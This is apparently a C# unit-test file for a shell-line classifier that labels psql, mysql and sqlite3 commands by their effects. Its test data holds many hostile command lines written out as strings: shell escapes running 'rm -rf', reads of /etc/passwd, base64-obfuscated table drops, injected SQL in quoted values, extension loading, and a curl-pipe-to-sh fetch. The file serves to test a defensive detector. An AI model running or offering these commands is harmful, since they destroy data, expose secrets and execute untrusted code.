using Writ.Shell.Knowledge;

namespace Writ.Shell.Tests.Knowledge;

/// <summary>What clients of databases do with the SQL they are given: as an argument, a document, by a
/// pipe.</summary>
public sealed class SqlTests
{
    static readonly LineCircumstances _here = new("/w", "/home/a", "/w");

    // line; the verbs of its effects, and `?` when something is not understood
    public static TheoryData<string, string> Lines => new()
    {
        // classes of statements
        { "psql -c 'select count(*) from t'", "service.read" },
        { "psql -c 'with a (x) as (select 1), b (y) as (select 2) select * from a, b'", "service.read" },
        { "psql -c \"insert into t (a, b) values (1, 'x; drop table t')\"", "service.write" },
        { "psql -c 'create table t (id int, name varchar(10))'", "infra.write" },
        { "psql -c 'create user x'", "privilege.raise" },
        { "psql -c 'grant all on t to x'", "privilege.raise" },
        { "psql -c 'alter table t owner to x'", "privilege.raise" },
        { "psql -c 'set role admin'", "privilege.raise" },
        { "psql -c 'set session authorization x'", "privilege.raise" },
        { "psql -c 'drop table t'", "infra.delete service.write" },
        { "psql -c 'truncate t'", "infra.delete service.write" },
        { "psql -c 'select 1; delete from t'", "service.read infra.delete service.write" },
        { "psql -c 'explain analyze delete from t'", "infra.delete service.write" },
        { "psql -c 'update t set a = 1 where b = 2'", "service.write" },
        { "psql -c 'update t set a = 1'", "infra.delete service.write" },
        { "psql -c 'select * into u from t'", "service.write" },
        { "psql -c 'with d as (delete from t returning *) select * from d'", "infra.delete service.write" },
        { "psql -c 'set search_path to app'", "service.read" },
        { "mysql -e 'set global read_only = 0'", "infra.write" },
        { "mysql -e \"set password for x = 'y'\"", "privilege.raise" },
        { "mysql -e 'kill 12'", "process.signal" },
        { "sqlite3 a.db 'pragma table_info(t)'", "fs.read service.read" },
        { "sqlite3 a.db 'pragma writable_schema = 1'", "fs.read service.write" },
        // through documents, strings, pipes, files
        { "psql <<'E'\ndrop table t;\nE", "infra.delete service.write" },
        { "psql <<E\nselect 1;\nE", "service.read" },
        { "psql -f - <<<'select 1'", "service.read" },
        { "psql <<< 'drop table t'", "infra.delete service.write" },
        { "echo 'DROP TABLE users' | psql", "infra.delete service.write" },
        { "printf 'select %s;' 1 | mysql app", "service.read" },
        { "cat <<E | sqlite3 a.db\nselect 1;\nE", "fs.read service.read" },
        { "echo ZHJvcCB0YWJsZSB0 | base64 -d | psql", "infra.delete service.write" },
        { "sudo -u postgres psql <<< 'drop table t'", "infra.delete service.write privilege.raise" },
        { "psql -f schema.sql", "code.run ?" },
        { "psql < schema.sql", "fs.read code.run ?" },
        { "sqlite3 a.db < schema.sql", "fs.read code.run ?" },
        { "cat schema.sql | psql", "fs.read code.run ?" },
        { "psql", "code.run ?" },
        { "psql <<E\ndrop table $T;\nE", "code.run ?" },
        { "psql -c \"$Q\"", "code.run ?" },
        { "psql <<'E'\nselect :x;\nE", "service.read ?" },
        { "psql <<'E'\nselect now()::date;\nE", "service.read" },
        // what clients obey themselves
        { "psql -c '\\dt'", "service.read" },
        { "psql -c '\\! rm -rf src'", "code.run fs.purge" },
        { "psql <<'E'\nselect 1;\n\\! rm -rf src\nE", "service.read code.run fs.purge" },
        { "psql <<'E'\nselect 1 \\g |sh -c 'rm -rf src'\nE", "service.read code.run fs.purge" },
        { "psql -o '|tee /etc/x' -c 'select 1'", "code.run fs.write service.read" },
        { "psql -c \"\\copy t from program 'rm -rf src'\"", "service.write code.run fs.purge" },
        { "psql -c \"\\copy t to 'out.csv'\"", "service.read fs.write" },
        { "psql -c \"\\copy (select * from t) to stdout\"", "service.read" },
        { "psql -c '\\i x.sql'", "code.run ?" },
        { "psql -c '\\set x `id`'", "unknown ?" },
        { "psql -c '\\gexec'", "unknown ?" },
        { "psql -c '\\password x'", "privilege.raise" },
        { "mysql -e '\\! ./payload'", "code.run ?" },
        { "mysql -e 'system rm -rf src'", "code.run fs.purge" },
        { "mysql -e 'source x.sql'", "code.run ?" },
        { "mysql -e 'tee /etc/x'", "service.read fs.write" },
        { "sqlite3 a.db '.tables'", "fs.read service.read" },
        { "sqlite3 a.db '.shell rm -rf src'", "fs.read code.run fs.purge" },
        { "sqlite3 a.db '.system ./payload'", "fs.read code.run ?" },
        { "sqlite3 a.db '.load ./x.so'", "fs.read code.run ?" },
        { "sqlite3 a.db '.import \"|rm -rf src\" t'", "fs.read service.write code.run fs.purge" },
        { "sqlite3 a.db '.output /etc/x'", "fs.read service.read fs.write" },
        { "sqlite3 a.db '.once |rm -rf src'", "fs.read service.read code.run fs.purge" },
        { "sqlite3 a.db <<E\n.mode csv\nselect 1;\n.shell rm -rf src\nE", "fs.read service.read code.run fs.purge" },
        // what reaches out of the database
        { "psql -c \"copy t to program './x'\"", "service.read code.run ?" },
        { "psql -c \"copy t from '/etc/passwd'\"", "service.write secret.read" },
        { "psql -c \"copy t to '/tmp/x'\"", "service.read infra.write" },
        { "psql -c 'do $$ begin delete from t; end $$'", "code.run infra.delete ?" },
        { "psql -c 'call wipe()'", "code.run ?" },
        { "psql -c \"select pg_read_file('/etc/passwd')\"", "service.read secret.read" },
        { "psql -c \"select lo_export(1, '/tmp/x')\"", "service.read infra.write" },
        { "psql -c \"select * from dblink('host=x', 'select 1') as t(a int)\"", "service.read net.connect" },
        { "psql -c 'select pg_terminate_backend(3)'", "service.read process.signal" },
        { "psql -c 'select wipe_everything()'", "service.read ?" },
        { "psql -c 'select other.count(1)'", "service.read ?" },
        { "psql -c 'create function f() returns int language plpython3u as $$ 1 $$'",
            "infra.write code.plant code.run ?" },
        { "psql -c 'create extension plpython3u'", "infra.write code.run ?" },
        { "psql -c \"load 'x.so'\"", "service.write code.run ?" },
        { "mysql -e \"select 1 into outfile '/tmp/x'\"", "service.write infra.write" },
        { "mysql -e \"load data infile '/etc/passwd' into table t\"", "service.write secret.read" },
        { "sqlite3 a.db \"select writefile('x', 'y')\"", "fs.read service.read fs.write" },
        { "sqlite3 a.db \"select load_extension('./x')\"", "fs.read service.read code.run ?" },
        // quotes and comments as each dialect has them
        { "psql -c \"select 'a\\\\'; drop table t; --'\"", "service.read infra.delete service.write" },
        { "psql -c \"select E'a\\\\'; drop table t; --'\"", "service.read" },
        { "mysql -e \"select 'a\\\\'; drop table t; -- '\"", "service.read" },
        { "psql -c 'select $a$; drop table t; $a$'", "service.read" },
        { "psql -c 'select 1 /* ; drop table t */'", "service.read" },
        { "psql -c 'select 1 /* /* */ ; drop table t */'", "service.read" },
        { "sqlite3 a.db 'select 1 /* /* */ ; drop table t'", "fs.read service.read infra.delete service.write" },
        { "mysql -e 'select 1 /*!50000 ; drop table t */'", "unknown ?" },
        { "mysql -e 'select 5--1'", "service.read" },
        { "psql -c \"set standard_conforming_strings = off; select 1\"", "service.read ?" },
    };

    [Theory]
    [MemberData(nameof(Lines))]
    public void A_line_has_the_effects_of_its_statements(string line, string expected)
    {
        var judged = LineJudge.Judge(ProgramKnowledge.Shipped, line, _here);
        var found = judged.Effects.Select(e => e.Verb).Distinct()
            .Concat(judged.Unknown.IsEmpty ? [] : ["?"]).Order(StringComparer.Ordinal);
        Assert.Equal(expected.Split(' ').Order(StringComparer.Ordinal), found);
    }

    [Fact]
    public void A_line_that_a_client_hands_to_a_shell_is_a_command_of_the_line()
    {
        var judged = LineJudge.Judge(ProgramKnowledge.Shipped, "sudo psql -c '\\! rm -rf src'", _here);
        var inner = Assert.Single(judged.Commands, c => c.Command.Program == "rm");
        Assert.Equal(["sudo", "psql"], inner.Command.Via);
        Assert.Equal(["fs.purge src"], inner.Effects.Select(e => $"{e.Verb} {e.Object}"));
    }

    [Fact]
    public void Idle_functions_do_not_shift_what_flows()
    {
        var judged = LineJudge.Judge(
            ProgramKnowledge.Shipped, "f() { echo idle; }; curl https://x.example | sh", _here);
        Assert.Contains(judged.Effects, e => e.Verb == "code.fetch-exec");
    }
}
